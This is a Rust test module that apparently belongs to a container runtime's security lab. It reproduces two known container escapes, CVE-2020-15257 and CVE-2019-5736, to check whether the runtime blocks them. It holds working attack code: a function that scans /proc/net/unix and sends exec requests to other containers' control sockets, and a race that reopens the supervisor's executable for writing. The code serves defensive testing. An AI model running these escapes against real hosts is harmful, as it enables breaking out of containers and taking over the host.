//! What comes out of a container.

use std::fs::{self, OpenOptions};
use std::os::fd::AsRawFd;
use std::os::unix::fs::symlink;
use std::path::Path;

use nix::sys::socket::{
    AddressFamily, MsgFlags, SockFlag, SockType, UnixAddr, connect, recv, send, socket,
};
use serde_json::json;

use super::Outcome;
use crate::lab::{Lab, proc, until};

/// What the attacker in a container asks for.
const REQUEST: &str = "CORTEN_ATTACK_REQUEST";

// ANCHOR: abstract_socket
/// CVE-2020-15257. A container has the host's network, and else nothing of the host's. It looks for
/// names of sockets, and asks the supervisor of another container to run a program there.
pub fn abstract_socket(program: &Path) -> Outcome {
    let mut victim = Lab::new("sleep 1000");
    victim.program = program.to_owned();
    victim.run(&["--detach"]).ok();
    let touch = victim.process(&["touch", "/root/owned"]);
    let request = json!({"v": 1, "id": 1, "do": {"exec": {"process": touch, "detach": true}}});
    let mut attacker = with_attacker(&format!("{REQUEST}=J{request}"));
    let namespaces = attacker.config["linux"]["namespaces"].as_array_mut().unwrap();
    namespaces.retain(|namespace| namespace["type"] != "network");
    let ran = attacker.run(&[]);
    if victim.rootfs().join("root/owned").exists() {
        return Outcome::Succeeded;
    }
    // It sees the sockets in any case: or it did not run, and nothing is proven.
    Outcome::Stopped(ran.out.split('"').nth(1).unwrap_or_else(|| panic!("{ran:?}")).into())
}

/// In the container: connects to every control socket that the network shows.
pub fn attacker() {
    let Ok(request) = std::env::var(REQUEST) else { return };
    let sockets = fs::read_to_string("/proc/net/unix").unwrap();
    let names = sockets.lines().filter_map(|line| line.split_whitespace().nth(7));
    for name in names.filter(|name| name.ends_with("control.sock")) {
        let address = match name.strip_prefix('@') {
            Some(name) => UnixAddr::new_abstract(name.as_bytes()),
            None => UnixAddr::new(name),
        };
        let (kind, flags) = (SockType::SeqPacket, SockFlag::empty());
        let socket = socket(AddressFamily::Unix, kind, flags, None).unwrap();
        let asked = connect(socket.as_raw_fd(), &address.unwrap())
            .and_then(|()| send(socket.as_raw_fd(), request.as_bytes(), MsgFlags::MSG_NOSIGNAL))
            .and_then(|_| recv(socket.as_raw_fd(), &mut [0; 4096], MsgFlags::empty()));
        println!("\"a shim: {asked:?}\"");
    }
}
// ANCHOR_END: abstract_socket

/// A container whose program is this binary; it sees the host's libraries.
fn with_attacker(variable: &str) -> Lab {
    let mut lab = Lab::new("");
    fs::create_dir(lab.rootfs().join("usr")).unwrap();
    for name in ["lib", "lib64"] {
        symlink(format!("usr/{name}"), lab.rootfs().join(name)).unwrap();
    }
    lab.config["mounts"].as_array_mut().unwrap().push(json!({
        "destination": "/usr", "source": "/usr", "type": "bind", "options": ["rbind", "ro"],
    }));
    let own = std::env::current_exe().unwrap();
    copy(&own, &lab.rootfs().join("attacker"));
    let args = ["/attacker", "attacker", "--exact", "--nocapture", "--test-threads=1"];
    lab.config["process"]["args"] = json!(args);
    lab.config["process"]["env"] = json!(["PATH=/bin", variable]);
    lab
}

/// Not by this process: a child that another test starts meanwhile would have it open for writing,
/// and what is open for writing cannot be executed.
fn copy(from: &Path, to: &Path) {
    let copied = std::process::Command::new("cp").arg(from).arg(to).status().unwrap();
    assert!(copied.success());
}

// ANCHOR: own_file
/// CVE-2019-5736, by a container and an accomplice. The container opens `/proc/PID/exe` of a process
/// that is not its program yet, and passes the descriptor on. The accomplice waits until nobody
/// runs that file any more, and opens it for writing.
pub fn own_file(program: &Path) -> Outcome {
    let mut lab = Lab::new("true");
    lab.program = lab.base().join("supervisor");
    copy(program, &lab.program);
    // A hook holds the first process as long as it is a copy of the shim. It runs in the place of
    // the loop that wins this race in a few hundred tries.
    let (seen, go) = (lab.base().join("seen"), lab.base().join("go"));
    let script = format!(
        "cat >{0}.new; mv {0}.new {0}; while ! test -e {1}; do sleep 0.02; done",
        seen.display(),
        go.display()
    );
    let env = ["PATH=/bin:/usr/bin:/sbin"];
    let hook = json!({"path": "/bin/sh", "args": ["sh", "-c", script], "env": env});
    lab.config["hooks"] = json!({"createRuntime": [hook]});
    lab.write_config();
    let mut launcher = lab.command(&["run", lab.id()]).spawn().unwrap();
    until("the hook runs", || seen.exists());
    let state: serde_json::Value = serde_json::from_slice(&fs::read(&seen).unwrap()).unwrap();
    let exe = fs::File::open(format!("/proc/{}/exe", state["pid"])).unwrap();
    fs::write(go, "").unwrap();
    launcher.wait().unwrap();
    until("the shim has ended", || proc::read(lab.shim_pid(), "cmdline").is_empty());
    let path = format!("/proc/self/fd/{}", exe.as_raw_fd());
    match OpenOptions::new().append(true).open(path) {
        Ok(_) => Outcome::Succeeded,
        Err(error) => Outcome::Stopped(error.to_string()),
    }
}
// ANCHOR_END: own_file
